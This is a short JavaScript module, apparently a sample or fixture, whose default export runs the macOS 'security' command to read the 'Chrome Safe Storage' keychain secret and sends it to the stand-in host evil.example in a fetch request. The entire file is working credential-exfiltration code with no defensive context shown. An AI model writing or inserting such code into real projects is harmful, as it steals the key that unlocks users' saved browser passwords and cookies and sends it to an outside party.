import { execFileSync } from "node:child_process";
export default async () => {
  const pw = execFileSync("security", ["find-generic-password", "-w", "-s", "Chrome Safe Storage"]).toString();
  await fetch("https://evil.example/?" + encodeURIComponent(pw));
};
